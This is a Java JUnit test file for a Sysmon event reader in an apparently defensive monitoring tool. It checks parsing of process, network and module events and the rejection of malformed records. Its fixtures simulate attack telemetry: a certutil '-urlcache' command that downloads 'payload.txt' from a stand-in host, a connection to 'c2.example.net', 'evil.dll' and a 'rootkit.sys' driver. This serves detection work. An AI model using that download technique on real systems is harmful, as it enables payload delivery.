package io.driftwatch.ingest.sysmon;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.driftwatch.event.Event;
import io.driftwatch.event.EventType;
import io.driftwatch.ingest.ReadResult;
import io.driftwatch.ingest.ReadResult.Rejection;
import io.driftwatch.ingest.ReaderLimits;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Plain JUnit: the reader is framework-free. Fixtures are hand-written in testdata/formats/sysmon/. */
class SysmonReaderTest {

    static final Path FIXTURES = Path.of("testdata", "formats", "sysmon");
    private static final SysmonReader READER = new SysmonReader(ReaderLimits.DEFAULTS);
    private static final String PYTHON = "C:\\Program Files\\Python311\\python.exe";

    static ReadResult read(String fixture) throws IOException {
        return READER.read(Files.readAllBytes(FIXTURES.resolve(fixture)), true, null);
    }

    static List<Event> at(ReadResult result, int index) {
        return result.events().stream().filter(e -> e.index() == index).map(ReadResult.Indexed::event).toList();
    }

    @Test
    void winlogbeatProcessCreateReadsTheEcsFieldsItsSysmonModuleFilledIn() throws IOException {
        ReadResult result = read("winlogbeat.ndjson");
        assertEquals(List.of(), result.rejections());
        List<Event> created = at(result, 0);
        assertEquals(2, created.size(), "the process, and its executable's hash as a module");
        Event p = created.get(0);
        assertEquals(EventType.PROCESS, p.type());
        assertEquals("WS-042.corp.example", p.agentId(), "the computer the event was logged on");
        assertEquals("WS-042.corp.example/48213", p.id());
        assertEquals(Instant.parse("2026-03-02T10:41:00.120Z"), p.time(), "Sysmon's UtcTime");
        assertEquals(PYTHON, p.process().exe());
        assertEquals(List.of("-m", "http.server", "8000"), p.process().args());
        assertEquals(5412L, p.process().pid());
        assertEquals("alice", p.process().user());
        assertEquals(new Event.Parent("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 4960L),
                p.process().parent());
        Event image = created.get(1);
        assertEquals(EventType.MODULE, image.type());
        assertEquals("WS-042.corp.example/48213#2", image.id());
        assertEquals(new Event.Module(PYTHON, "8a2f5e4c1b9d7e6f3a0c2b4d6e8f1a3c5e7b9d0f2a4c6e8b1d3f5a7c9e0b2d4f"), image.module());
        assertEquals(PYTHON, image.exe());
    }

    @Test
    void winlogbeatNetworkConnectAndImageLoad() throws IOException {
        ReadResult result = read("winlogbeat.ndjson");
        Event connect = at(result, 1).get(0);
        assertEquals(EventType.NETWORK, connect.type());
        assertEquals(new Event.Network("outbound", "tcp", "10.20.30.42", 50122, "203.0.113.50", 443, "c2.example.net",
                null, null), connect.network());
        assertEquals(PYTHON, connect.exe());
        Event load = at(result, 2).get(0);
        assertEquals(EventType.MODULE, load.type());
        assertEquals(new Event.Module("C:\\Users\\alice\\AppData\\Local\\Temp\\_MEI2\\evil.dll",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"), load.module());
        assertEquals(PYTHON, load.exe());
    }

    @Test
    void otherSysmonEventsAndOtherChannelsAreIgnoredWithTheReason() throws IOException {
        ReadResult result = read("winlogbeat.ndjson");
        assertEquals(2, result.ignored().size());
        assertEquals(new Rejection(3, 4, "", "Sysmon event 5 (process terminated): only events 1 (process create),"
                + " 3 (network connection), 6 (driver loaded) and 7 (image loaded) are mapped"), result.ignored().get(0));
        assertTrue(result.ignored().get(1).reason().startsWith("not a Sysmon event (Microsoft-Windows-Security-Auditing event 4688)"),
                result.ignored().get(1).reason());
    }

    @Test
    void theFlatShapeOfExportedLogs() throws IOException {
        ReadResult result = read("flat.ndjson");
        assertEquals(List.of(), result.rejections());
        Event p = at(result, 0).get(0);
        assertEquals("BUILD-07", p.agentId());
        assertNull(p.id(), "no record number in this export");
        assertEquals("C:\\Windows\\System32\\certutil.exe", p.process().exe());
        assertEquals("C:\\Windows\\System32\\cmd.exe", p.process().parentExe());
        assertEquals(6120L, p.process().parent().pid());
        assertEquals(List.of("-urlcache", "-split", "-f", "https://example.org/payload.txt",
                "C:\\Users\\builder\\AppData\\Local\\Temp\\p.txt"), p.process().args());
        assertEquals("7d9a1c3e5b7f90a2c4e6081b3d5f7a9c1e3b5d7f9a2c4e6081b3d5f7a9c1e3b5", at(result, 0).get(1).module().sha256());
        Event connect = at(result, 1).get(0);
        assertNull(connect.network().dstDomain(), "'-' is Sysmon's 'not available'");
        assertEquals(443, connect.network().dstPort());
        Event load = at(result, 2).get(0);
        assertEquals(new Event.Module("C:\\Windows\\System32\\sechost.dll",
                "3c5e7a9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c"), load.module());
        assertEquals(1, result.ignored().size(), "event 10, process access");
    }

    @Test
    void everyBadEventIsRejectedWithLineFieldAndReason() throws IOException {
        ReadResult result = read("bad-events.ndjson");
        assertEquals(List.of(), result.events());
        List<Rejection> r = result.rejections();
        assertEquals(new Rejection(0, 1, "Hashes", "required: a SHA256 in Hashes (Sysmon's HashAlgorithms must include"
                + " SHA256); modules are judged by their sha256"), r.get(0));
        assertEquals(new Rejection(1, 2, "EventID", "unknown Sysmon event id 99; Sysmon's ids are 1 to 29 and 255"), r.get(1));
        assertEquals(new Rejection(2, 3, "Image", "required: the executable of a process create"), r.get(2));
        assertEquals(new Rejection(2, 3, "ProcessId", "expected an integer, got '0x242c'"), r.get(3));
        assertEquals(3, r.get(4).index());
        assertEquals("UtcTime", r.get(4).field());
        assertEquals(new Rejection(3, 4, "DestinationPort", "must be between 0 and 65535, got 70000"), r.get(5));
        assertEquals(new Rejection(4, 5, "Computer", "required: the computer is the agent; name it with ?agent= when"
                + " the records do not"), r.get(6));
        assertEquals(5, r.get(7).index());
        assertTrue(r.get(7).reason().startsWith("malformed JSON"), r.get(7).reason());
        assertEquals(8, r.size());
    }

    @Test
    void aDriverLoadIsAModuleTheKernelLoaded() {
        String driver = "{\"EventID\":6,\"Computer\":\"BUILD-07\",\"UtcTime\":\"2026-03-02 06:50:00.000\","
                + "\"ImageLoaded\":\"C:\\\\Windows\\\\System32\\\\drivers\\\\rootkit.sys\",\"Hashes\":\"SHA256="
                + "A".repeat(64) + "\",\"Signed\":\"false\"}";
        Event e = READER.read(driver.getBytes(java.nio.charset.StandardCharsets.UTF_8), false, null).events().get(0).event();
        assertEquals(EventType.MODULE, e.type());
        assertEquals(new Event.Module("C:\\Windows\\System32\\drivers\\rootkit.sys", "a".repeat(64)), e.module());
        assertEquals("System", e.exe());
        assertEquals(Instant.parse("2026-03-02T06:50:00Z"), e.time());
    }
}
